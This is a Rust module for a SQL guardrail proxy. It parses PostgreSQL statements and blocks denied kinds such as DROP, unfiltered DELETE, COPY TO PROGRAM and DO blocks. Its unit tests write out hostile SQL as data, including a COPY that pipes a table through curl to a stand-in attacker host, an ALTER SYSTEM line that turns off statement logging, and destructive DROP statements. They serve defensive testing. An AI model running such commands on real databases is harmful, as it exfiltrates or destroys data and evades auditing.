//! Guardrails: statement rules checked on the parsed SQL before a statement is forwarded.
//!
//! Every statement of a multi-statement string is checked, nested ones included (`EXPLAIN
//! ANALYZE DELETE …`, `PREPARE … AS UPDATE …`, data-modifying `WITH`). What the parser cannot
//! read is handled fail-closed: a strict rule blocks it, a table rule blocks it (it cannot tell
//! which tables it touches), and the kinds found by scanning its keywords still apply.

use std::collections::HashMap;
use std::fmt;
use std::ops::ControlFlow;

use sqlparser::ast::{CopyTarget, ObjectName, ObjectNamePart, ObjectType, Statement};
use sqlparser::dialect::PostgreSqlDialect;
use sqlparser::keywords::Keyword;
use sqlparser::parser::Parser;
use sqlparser::tokenizer::{Token, Tokenizer};

/// Statement kinds a rule can deny.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Kind {
    /// `CREATE`, `ALTER`, `DROP`, `COMMENT`, `GRANT`, `REVOKE`, `SECURITY LABEL`.
    Ddl,
    Drop,
    Truncate,
    AlterSystem,
    /// `COPY … TO/FROM PROGRAM`: runs a shell command on the database server.
    CopyProgram,
    /// `COPY … TO/FROM 'file'` on the database server's file system.
    CopyFile,
    Delete,
    DeleteWithoutWhere,
    Update,
    UpdateWithoutWhere,
    Insert,
    Merge,
    /// `DO` blocks: code the guard cannot see into.
    Do,
}

impl Kind {
    pub const ALL: [Kind; 13] = [
        Kind::Ddl,
        Kind::Drop,
        Kind::Truncate,
        Kind::AlterSystem,
        Kind::CopyProgram,
        Kind::CopyFile,
        Kind::Delete,
        Kind::DeleteWithoutWhere,
        Kind::Update,
        Kind::UpdateWithoutWhere,
        Kind::Insert,
        Kind::Merge,
        Kind::Do,
    ];

    pub fn name(self) -> &'static str {
        match self {
            Kind::Ddl => "ddl",
            Kind::Drop => "drop",
            Kind::Truncate => "truncate",
            Kind::AlterSystem => "alter_system",
            Kind::CopyProgram => "copy_program",
            Kind::CopyFile => "copy_file",
            Kind::Delete => "delete",
            Kind::DeleteWithoutWhere => "delete_without_where",
            Kind::Update => "update",
            Kind::UpdateWithoutWhere => "update_without_where",
            Kind::Insert => "insert",
            Kind::Merge => "merge",
            Kind::Do => "do",
        }
    }

    pub fn parse(name: &str) -> Option<Kind> {
        Kind::ALL.into_iter().find(|k| k.name() == name)
    }

    fn describe(self) -> &'static str {
        match self {
            Kind::Ddl => "a schema change (DDL)",
            Kind::Drop => "a DROP",
            Kind::Truncate => "a TRUNCATE",
            Kind::AlterSystem => "ALTER SYSTEM",
            Kind::CopyProgram => "COPY with PROGRAM",
            Kind::CopyFile => "COPY to or from a server file",
            Kind::Delete => "a DELETE",
            Kind::DeleteWithoutWhere => "a DELETE without WHERE",
            Kind::Update => "an UPDATE",
            Kind::UpdateWithoutWhere => "an UPDATE without WHERE",
            Kind::Insert => "an INSERT",
            Kind::Merge => "a MERGE",
            Kind::Do => "a DO block",
        }
    }
}

/// A table a rule protects: `table` or `schema.table`, each part a name or `*`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TablePattern {
    schema: Option<String>,
    table: String,
}

impl TablePattern {
    /// Parts are compared as PostgreSQL folds unquoted names: in lower case.
    pub fn parse(text: &str) -> Option<TablePattern> {
        match name_parts(text)?.as_slice() {
            [t] => Some(TablePattern {
                schema: None,
                table: t.clone(),
            }),
            [s, t] => Some(TablePattern {
                schema: Some(s.clone()),
                table: t.clone(),
            }),
            _ => None,
        }
    }

    /// An unqualified name in a statement matches whatever schema the rule names: the search
    /// path decides where it resolves, so the guard assumes the worst.
    fn matches(&self, schema: Option<&str>, table: &str) -> bool {
        let part = |want: &str, have: &str| want == "*" || want == have;
        part(&self.table, table)
            && match (&self.schema, schema) {
                (Some(want), Some(have)) => part(want, have),
                _ => true,
            }
    }
}

pub(crate) use jitgate_core::masking::{in_scope, name_parts};

/// Whether `word` appears in `sql`, in any case: a cheap test before parsing.
pub(crate) fn mentions(sql: &str, word: &str) -> bool {
    sql.as_bytes()
        .windows(word.len().max(1))
        .any(|w| w.eq_ignore_ascii_case(word.as_bytes()))
}

/// Results by SQL text, kept per session: clients repeat the same statements, and parsing is
/// the expensive part. Past [`CACHE`] entries it starts over.
pub(crate) struct Memo<T> {
    by_sql: HashMap<String, T>,
}

impl<T> Default for Memo<T> {
    fn default() -> Self {
        Memo {
            by_sql: HashMap::new(),
        }
    }
}

impl<T: Clone> Memo<T> {
    pub(crate) fn get(&mut self, sql: &str, compute: impl FnOnce() -> T) -> T {
        if let Some(v) = self.by_sql.get(sql) {
            return v.clone();
        }
        let v = compute();
        if self.by_sql.len() >= CACHE {
            self.by_sql.clear();
        }
        self.by_sql.insert(sql.to_owned(), v.clone());
        v
    }
}

impl fmt::Display for TablePattern {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match &self.schema {
            Some(s) => write!(f, "{s}.{}", self.table),
            None => f.write_str(&self.table),
        }
    }
}

/// One `[[guardrails]]` rule.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct GuardRule {
    pub name: String,
    /// Resources it applies to; empty: all.
    pub resources: Vec<String>,
    /// Roles it applies to; empty: all.
    pub roles: Vec<String>,
    pub deny: Vec<Kind>,
    pub tables: Vec<TablePattern>,
    /// Block statements the parser cannot read, and `DO` blocks.
    pub strict: bool,
}

impl GuardRule {
    fn judge(&self, s: &Shape) -> Option<String> {
        if let Some(k) = self.deny.iter().find(|k| s.kinds.contains(k)) {
            return Some(format!("{} is not allowed", k.describe()));
        }
        if s.opaque && self.strict {
            return Some(format!(
                "{} cannot be checked and this rule is strict",
                s.opaque_what()
            ));
        }
        if s.opaque && !self.tables.is_empty() {
            return Some(format!(
                "{} cannot be checked against the rule's tables",
                s.opaque_what()
            ));
        }
        for (schema, table) in &s.tables {
            if let Some(p) = self
                .tables
                .iter()
                .find(|p| p.matches(schema.as_deref(), table))
            {
                return Some(format!("it touches {p}, which this rule protects"));
            }
        }
        None
    }
}

/// Why a statement was blocked.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Blocked {
    pub rule: String,
    pub why: String,
}

impl Blocked {
    pub fn message(&self) -> String {
        format!(
            "jitgate guardrail \"{}\" blocked this statement: {}",
            self.rule, self.why
        )
    }
}

/// The rules that apply to one session, with a cache of verdicts by SQL text (clients repeat
/// the same statements; parsing is the expensive part).
pub struct SessionGuard {
    rules: Vec<GuardRule>,
    verdicts: Memo<Option<Blocked>>,
}

/// Verdicts kept per session; past this the cache starts over.
const CACHE: usize = 512;

impl SessionGuard {
    /// The rules for a session on `resource` with `role`, or `None` when no rule applies.
    pub fn for_session(rules: &[GuardRule], resource: &str, role: &str) -> Option<SessionGuard> {
        let rules: Vec<GuardRule> = rules
            .iter()
            .filter(|r| in_scope(&r.resources, &r.roles, resource, role))
            .cloned()
            .collect();
        (!rules.is_empty()).then(|| SessionGuard {
            rules,
            verdicts: Memo::default(),
        })
    }

    /// A FunctionCall message runs a function by OID, with no SQL to check: a strict rule
    /// blocks it.
    pub fn function_call(&self) -> Option<Blocked> {
        self.rules.iter().find(|r| r.strict).map(|r| Blocked {
            rule: r.name.clone(),
            why: "a function call by OID cannot be checked and this rule is strict".into(),
        })
    }

    pub fn check(&mut self, sql: &str) -> Option<Blocked> {
        let rules = &self.rules;
        self.verdicts.get(sql, || judge(rules, sql))
    }
}

/// A `COPY … TO STDOUT` as masking needs to know it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum CopyOut {
    /// `COPY [schema.]table [(columns)] TO STDOUT`, text or CSV format, no other options.
    /// Names are folded as PostgreSQL folds them.
    Table {
        schema: Option<String>,
        table: String,
        columns: Vec<String>,
        format: CopyFormat,
    },
    /// `COPY (query) TO STDOUT`: which table columns it reads is not known.
    Query { format: CopyFormat },
    /// Anything else: binary format, other delimiters or quoting, several statements, SQL the
    /// parser cannot read.
    Unsupported,
}

/// The COPY formats masking can rewrite.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum CopyFormat {
    Text,
    Csv { header: bool },
}

/// What `COPY … TO STDOUT` is in `sql`, if any (`None`: there is none).
pub fn copy_out(sql: &str) -> Option<CopyOut> {
    if !mentions(sql, "copy") {
        return None;
    }
    let Ok(statements) = Parser::parse_sql(&PostgreSqlDialect {}, sql) else {
        return Some(CopyOut::Unsupported);
    };
    let copies_out = |top: &Statement| {
        sqlparser::ast::visit_statements(top, |s| match s {
            Statement::Copy { to: true, .. } => ControlFlow::Break(()),
            _ => ControlFlow::Continue(()),
        })
        .is_break()
    };
    if !statements.iter().any(copies_out) {
        return None;
    }
    let [
        Statement::Copy {
            source,
            to: true,
            target: CopyTarget::Stdout,
            options,
            legacy_options,
            ..
        },
    ] = statements.as_slice()
    else {
        return Some(CopyOut::Unsupported);
    };
    let Some(format) = copy_format(options, legacy_options) else {
        return Some(CopyOut::Unsupported);
    };
    Some(match source {
        sqlparser::ast::CopySource::Query(_) => CopyOut::Query { format },
        sqlparser::ast::CopySource::Table {
            table_name,
            columns,
        } => {
            let mut parts = Vec::new();
            push_table(&mut parts, table_name);
            let Some((schema, table)) = parts.pop() else {
                return Some(CopyOut::Unsupported);
            };
            CopyOut::Table {
                schema,
                table,
                columns: columns.iter().map(fold).collect(),
                format,
            }
        }
    })
}

fn fold(i: &sqlparser::ast::Ident) -> String {
    if i.quote_style.is_some() {
        i.value.clone()
    } else {
        i.value.to_ascii_lowercase()
    }
}

/// Text or CSV with PostgreSQL's defaults (and an optional CSV header); `None` for anything
/// else.
fn copy_format(
    options: &[sqlparser::ast::CopyOption],
    legacy: &[sqlparser::ast::CopyLegacyOption],
) -> Option<CopyFormat> {
    use sqlparser::ast::{CopyLegacyCsvOption, CopyLegacyOption, CopyOption};
    let mut csv = false;
    let mut header = false;
    for o in options {
        match o {
            CopyOption::Format(f) if f.value.eq_ignore_ascii_case("text") => {}
            CopyOption::Format(f) if f.value.eq_ignore_ascii_case("csv") => csv = true,
            CopyOption::Header(h) => header = *h,
            CopyOption::Encoding(e) if e.eq_ignore_ascii_case("utf8") => {}
            _ => return None,
        }
    }
    for o in legacy {
        match o {
            CopyLegacyOption::Csv(sub) => {
                csv = true;
                for s in sub {
                    match s {
                        CopyLegacyCsvOption::Header => header = true,
                        _ => return None,
                    }
                }
            }
            CopyLegacyOption::Header => header = true,
            _ => return None,
        }
    }
    match (csv, header) {
        (true, header) => Some(CopyFormat::Csv { header }),
        (false, false) => Some(CopyFormat::Text),
        (false, true) => None, // PostgreSQL refuses HEADER in text format anyway
    }
}

/// The column names that `sql` computes result values from: every identifier in the select
/// lists of its subqueries and CTEs, and in the outermost select list's items that are not
/// plain column references (those PostgreSQL reports by table and column). Names only in
/// WHERE, GROUP BY or ORDER BY produce no values and are left out. `None` if it does not
/// parse.
pub fn projected_identifiers(sql: &str) -> Option<Vec<String>> {
    use sqlparser::ast::{Expr, Query, SelectItem, SetExpr, Visit, Visitor};

    struct Projections {
        names: Vec<String>,
        outermost: bool,
    }

    fn set_expr(p: &mut Projections, body: &SetExpr, outermost: bool) {
        match body {
            SetExpr::Select(select) => {
                for item in &select.projection {
                    let expr = match item {
                        SelectItem::UnnamedExpr(e)
                        | SelectItem::ExprWithAlias { expr: e, .. }
                        | SelectItem::ExprWithAliases { expr: e, .. } => e,
                        _ => continue,
                    };
                    let plain = matches!(expr, Expr::Identifier(_) | Expr::CompoundIdentifier(_));
                    if outermost && plain {
                        continue;
                    }
                    let _ = sqlparser::ast::visit_expressions(expr, |e| {
                        match e {
                            Expr::Identifier(i) => p.names.push(fold(i)),
                            Expr::CompoundIdentifier(parts) => {
                                p.names.extend(parts.last().map(fold))
                            }
                            _ => {}
                        }
                        ControlFlow::<()>::Continue(())
                    });
                }
            }
            SetExpr::SetOperation { left, right, .. } => {
                set_expr(p, left, outermost);
                set_expr(p, right, outermost);
            }
            _ => {} // nested queries are visited on their own
        }
    }

    impl Visitor for Projections {
        type Break = ();
        fn pre_visit_query(&mut self, query: &Query) -> ControlFlow<()> {
            let outermost = std::mem::take(&mut self.outermost);
            set_expr(self, &query.body, outermost);
            ControlFlow::Continue(())
        }
    }

    let statements = Parser::parse_sql(&PostgreSqlDialect {}, sql).ok()?;
    let mut p = Projections {
        names: Vec::new(),
        outermost: true,
    };
    for top in &statements {
        p.outermost = true;
        let _ = top.visit(&mut p);
    }
    Some(p.names)
}

/// The first rule that blocks `sql`, checking each statement in it.
pub fn judge(rules: &[GuardRule], sql: &str) -> Option<Blocked> {
    for shape in shapes(sql) {
        for rule in rules {
            if let Some(why) = rule.judge(&shape) {
                return Some(Blocked {
                    rule: rule.name.clone(),
                    why,
                });
            }
        }
    }
    None
}

/// What the guard knows of one top-level statement.
#[derive(Debug, Default, PartialEq)]
struct Shape {
    kinds: Vec<Kind>,
    /// `(schema, table)`, folded as PostgreSQL folds them.
    tables: Vec<(Option<String>, String)>,
    /// The parser could not read it, or it is a `DO` block.
    opaque: bool,
    unparsed: bool,
}

impl Shape {
    fn add(&mut self, k: Kind) {
        if !self.kinds.contains(&k) {
            self.kinds.push(k);
        }
    }

    fn opaque_what(&self) -> &'static str {
        if self.unparsed {
            "a statement the guard cannot parse"
        } else {
            "a DO block"
        }
    }
}

fn shapes(sql: &str) -> Vec<Shape> {
    match Parser::parse_sql(&PostgreSqlDialect {}, sql) {
        Ok(statements) => statements.iter().map(parsed_shape).collect(),
        Err(_) => scanned_shapes(sql),
    }
}

fn parsed_shape(top: &Statement) -> Shape {
    let mut shape = Shape::default();
    // Every statement, nested ones too.
    let _ = sqlparser::ast::visit_statements(top, |s| {
        statement_kinds(s, &mut shape);
        ControlFlow::<()>::Continue(())
    });
    let _ = sqlparser::ast::visit_relations(top, |name| {
        push_table(&mut shape.tables, name);
        ControlFlow::<()>::Continue(())
    });
    shape
}

fn statement_kinds(s: &Statement, shape: &mut Shape) {
    match s {
        Statement::Drop {
            object_type, names, ..
        } => {
            shape.add(Kind::Drop);
            shape.add(Kind::Ddl);
            if matches!(
                object_type,
                ObjectType::Table | ObjectType::View | ObjectType::MaterializedView
            ) {
                for n in names {
                    push_table(&mut shape.tables, n);
                }
            }
        }
        Statement::Truncate(_) => shape.add(Kind::Truncate),
        Statement::Delete(d) => {
            shape.add(Kind::Delete);
            if d.selection.is_none() {
                shape.add(Kind::DeleteWithoutWhere);
            }
        }
        Statement::Update(u) => {
            shape.add(Kind::Update);
            if u.selection.is_none() {
                shape.add(Kind::UpdateWithoutWhere);
            }
        }
        Statement::Insert(_) => shape.add(Kind::Insert),
        Statement::Merge(_) => shape.add(Kind::Merge),
        Statement::Copy { target, .. } => match target {
            CopyTarget::Program { .. } => shape.add(Kind::CopyProgram),
            CopyTarget::File { .. } => shape.add(Kind::CopyFile),
            CopyTarget::Stdin | CopyTarget::Stdout => {}
        },
        other => {
            // The rest is told apart by the statement's leading keywords, as rendered by the
            // parser: whatever CREATE/ALTER/… variant the parser grows next is still DDL.
            let text = other.to_string();
            let mut words = text.split_ascii_whitespace().map(str::to_ascii_uppercase);
            let first = words.next().unwrap_or_default();
            let second = words.next().unwrap_or_default();
            match (first.as_str(), second.as_str()) {
                ("ALTER", "SYSTEM") => {
                    shape.add(Kind::AlterSystem);
                    shape.add(Kind::Ddl);
                }
                ("CREATE" | "ALTER" | "COMMENT" | "GRANT" | "REVOKE", _)
                | ("SECURITY", "LABEL") => shape.add(Kind::Ddl),
                ("DO", _) => {
                    shape.add(Kind::Do);
                    shape.opaque = true;
                }
                _ => {}
            }
        }
    }
}

fn push_table(tables: &mut Vec<(Option<String>, String)>, name: &ObjectName) {
    let parts: Vec<String> = name
        .0
        .iter()
        .map(|p| match p {
            ObjectNamePart::Identifier(i) if i.quote_style.is_some() => i.value.clone(),
            ObjectNamePart::Identifier(i) => i.value.to_ascii_lowercase(),
            // A name computed by a function cannot be known here: match every rule.
            ObjectNamePart::Function(_) => "*".into(),
        })
        .collect();
    let entry = match parts.as_slice() {
        [] => return,
        [t] => (None, t.clone()),
        [.., s, t] => (Some(s.clone()), t.clone()),
    };
    if !tables.contains(&entry) {
        tables.push(entry);
    }
}

/// For SQL the parser rejects: split it into statements on the tokenizer's top-level `;` and
/// find kinds by keyword anywhere in each, which over-blocks rather than under-blocks. If even
/// the tokenizer fails, the whole text is one opaque statement.
fn scanned_shapes(sql: &str) -> Vec<Shape> {
    let dialect = PostgreSqlDialect {};
    let Ok(tokens) = Tokenizer::new(&dialect, sql).tokenize() else {
        return vec![Shape {
            opaque: true,
            unparsed: true,
            ..Shape::default()
        }];
    };
    let mut shapes = Vec::new();
    let mut words: Vec<Keyword> = Vec::new();
    let flush = |words: &mut Vec<Keyword>, shapes: &mut Vec<Shape>| {
        if !words.is_empty() {
            shapes.push(scanned_shape(words));
            words.clear();
        }
    };
    let mut depth = 0i32;
    for t in tokens {
        match t {
            Token::LParen => depth += 1,
            Token::RParen => depth -= 1,
            Token::SemiColon if depth <= 0 => flush(&mut words, &mut shapes),
            Token::Word(w) if w.quote_style.is_none() => words.push(w.keyword),
            Token::Word(_) => words.push(Keyword::NoKeyword),
            Token::Whitespace(_) => {}
            _ => words.push(Keyword::NoKeyword),
        }
    }
    flush(&mut words, &mut shapes);
    if shapes.is_empty() {
        // Only comments or whitespace: nothing runs, but say so rather than guess.
        shapes.push(Shape {
            opaque: true,
            unparsed: true,
            ..Shape::default()
        });
    }
    shapes
}

fn scanned_shape(words: &[Keyword]) -> Shape {
    let mut shape = Shape {
        opaque: true,
        unparsed: true,
        ..Shape::default()
    };
    let has = |k: Keyword| words.contains(&k);
    let has_where = has(Keyword::WHERE);
    for (i, w) in words.iter().enumerate() {
        match w {
            Keyword::DROP => {
                shape.add(Kind::Drop);
                shape.add(Kind::Ddl);
            }
            Keyword::TRUNCATE => shape.add(Kind::Truncate),
            Keyword::CREATE | Keyword::COMMENT | Keyword::GRANT | Keyword::REVOKE => {
                shape.add(Kind::Ddl)
            }
            Keyword::ALTER => {
                shape.add(Kind::Ddl);
                if words.get(i + 1) == Some(&Keyword::SYSTEM) {
                    shape.add(Kind::AlterSystem);
                }
            }
            Keyword::DELETE => {
                shape.add(Kind::Delete);
                if !has_where {
                    shape.add(Kind::DeleteWithoutWhere);
                }
            }
            Keyword::UPDATE => {
                shape.add(Kind::Update);
                if !has_where {
                    shape.add(Kind::UpdateWithoutWhere);
                }
            }
            Keyword::INSERT => shape.add(Kind::Insert),
            Keyword::MERGE => shape.add(Kind::Merge),
            Keyword::PROGRAM if has(Keyword::COPY) => shape.add(Kind::CopyProgram),
            _ => {}
        }
    }
    if words.first() == Some(&Keyword::DO) {
        shape.add(Kind::Do);
    }
    if has(Keyword::COPY) && !has(Keyword::PROGRAM) && !has(Keyword::STDIN) && !has(Keyword::STDOUT)
    {
        shape.add(Kind::CopyFile);
    }
    shape
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rule(deny: &[&str], tables: &[&str], strict: bool) -> GuardRule {
        GuardRule {
            name: "r".into(),
            resources: vec![],
            roles: vec![],
            deny: deny.iter().map(|k| Kind::parse(k).expect(k)).collect(),
            tables: tables
                .iter()
                .map(|t| TablePattern::parse(t).expect(t))
                .collect(),
            strict,
        }
    }

    fn blocked(r: &GuardRule, sql: &str) -> bool {
        judge(std::slice::from_ref(r), sql).is_some()
    }

    #[test]
    fn kinds_are_found_in_every_statement_and_nested_ones() {
        let r = rule(
            &[
                "drop",
                "truncate",
                "delete_without_where",
                "update_without_where",
                "copy_program",
                "alter_system",
            ],
            &[],
            false,
        );
        for sql in [
            "DROP TABLE orders",
            "select 1; drop table orders",
            "SELECT 1; /* harmless */ TRUNCATE orders",
            "-- just a comment\nDELETE FROM orders",
            "DELETE FROM orders -- WHERE id = 1",
            "UPDATE orders SET total = 0",
            "EXPLAIN ANALYZE DELETE FROM orders",
            "WITH gone AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM gone",
            "PREPARE p AS UPDATE orders SET total = 0",
            "COPY orders TO PROGRAM 'curl -d @- evil.example'",
            "ALTER SYSTEM SET log_statement = 'none'",
            "/* /* nested */ SELECT 1; */ DROP TABLE orders",
            "SELECT $$; $$; DROP TABLE orders",
        ] {
            assert!(blocked(&r, sql), "not blocked: {sql}");
        }
        for sql in [
            "SELECT * FROM orders",
            "DELETE FROM orders WHERE id = 1",
            "UPDATE orders SET total = 0 WHERE id = 1",
            "SELECT 'DROP TABLE orders'",
            "SELECT $$DROP TABLE orders$$",
            "SELECT 1 -- ; DROP TABLE orders",
            "SELECT \"drop\" FROM t",
            "COPY orders TO STDOUT",
            "BEGIN; INSERT INTO orders VALUES (1); COMMIT",
        ] {
            assert!(!blocked(&r, sql), "blocked: {sql}");
        }
    }

    #[test]
    fn ddl_covers_create_alter_grant_and_comment() {
        let r = rule(&["ddl"], &[], false);
        for sql in [
            "CREATE TABLE t (id int)",
            "ALTER TABLE orders ADD COLUMN x int",
            "GRANT SELECT ON orders TO public",
            "CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql",
            "COMMENT ON TABLE orders IS 'x'",
            "DROP INDEX i",
        ] {
            assert!(blocked(&r, sql), "not blocked: {sql}");
        }
        assert!(!blocked(&r, "SELECT 1"));
    }

    #[test]
    fn tables_match_through_aliases_joins_subqueries_and_quoting() {
        let r = rule(&[], &["public.payments"], false);
        for sql in [
            "SELECT * FROM payments",
            "SELECT p.card FROM public.payments AS p",
            "SELECT * FROM orders o JOIN payments p ON p.order_id = o.id",
            "SELECT * FROM orders WHERE id IN (SELECT order_id FROM PAYMENTS)",
            "SELECT * FROM \"public\".\"payments\"",
            "WITH x AS (SELECT * FROM payments) SELECT * FROM x",
            "DROP TABLE payments",
            "TRUNCATE payments",
            "DO $$ BEGIN EXECUTE 'DELETE FROM payments'; END $$",
        ] {
            assert!(blocked(&r, sql), "not blocked: {sql}");
        }
        for sql in [
            "SELECT * FROM orders",
            "SELECT * FROM audit.payments",
            "SELECT * FROM \"Payments\"",
            "SELECT 'payments'",
        ] {
            assert!(!blocked(&r, sql), "blocked: {sql}");
        }
    }

    #[test]
    fn strict_rules_block_what_cannot_be_parsed() {
        let lax = rule(&["drop"], &[], false);
        let strict = rule(&["drop"], &[], true);
        let odd = "SELECT FROM WHERE nonsense (";
        assert!(!blocked(&lax, odd));
        assert!(blocked(&strict, odd));
        let block = "DO $$ BEGIN EXECUTE 'DROP TABLE orders'; END $$";
        assert!(!blocked(&lax, block), "a lax rule cannot see into DO");
        assert!(blocked(&strict, block));
        assert!(blocked(&strict, "SELECT 'unterminated"));
    }

    #[test]
    fn rules_apply_by_resource_and_role_and_verdicts_are_cached() {
        let mut r = rule(&["drop"], &[], false);
        r.resources = vec!["orders-db".into()];
        r.roles = vec!["read".into()];
        let rules = [r];
        assert!(SessionGuard::for_session(&rules, "orders-db", "admin").is_none());
        assert!(SessionGuard::for_session(&rules, "other-db", "read").is_none());
        let mut g = SessionGuard::for_session(&rules, "orders-db", "read").expect("applies");
        let b = g.check("DROP TABLE x").expect("blocked");
        assert_eq!(b.rule, "r");
        assert!(
            b.message().contains("a DROP is not allowed"),
            "{}",
            b.message()
        );
        assert_eq!(g.check("DROP TABLE x"), Some(b));
        assert_eq!(g.check("SELECT 1"), None);
    }

    #[test]
    fn copy_out_is_understood_or_marked_unsupported() {
        assert_eq!(copy_out("SELECT 1"), None);
        assert_eq!(copy_out("COPY t FROM STDIN"), None);
        assert_eq!(
            copy_out("copy Public.\"People\" (ID, \"Email\") to stdout"),
            Some(CopyOut::Table {
                schema: Some("public".into()),
                table: "People".into(),
                columns: vec!["id".into(), "Email".into()],
                format: CopyFormat::Text,
            })
        );
        assert_eq!(
            copy_out("COPY t TO STDOUT WITH (FORMAT csv, HEADER true)"),
            Some(CopyOut::Table {
                schema: None,
                table: "t".into(),
                columns: vec![],
                format: CopyFormat::Csv { header: true },
            })
        );
        assert_eq!(
            copy_out("COPY (SELECT 1) TO STDOUT CSV"),
            Some(CopyOut::Query {
                format: CopyFormat::Csv { header: false }
            })
        );
        for odd in [
            "COPY t TO STDOUT WITH (FORMAT binary)",
            "COPY t TO STDOUT WITH (DELIMITER '|')",
            "COPY t TO STDOUT; SELECT 1",
            "COPY t TO STDOUT (((",
        ] {
            assert_eq!(copy_out(odd), Some(CopyOut::Unsupported), "{odd}");
        }
    }

    #[test]
    fn table_patterns_parse_strictly() {
        assert!(TablePattern::parse("public.payments").is_some());
        assert!(TablePattern::parse("*.secrets").is_some());
        assert!(TablePattern::parse("a.b.c").is_none());
        assert!(TablePattern::parse("pay;ments").is_none());
        assert!(TablePattern::parse("").is_none());
    }
}
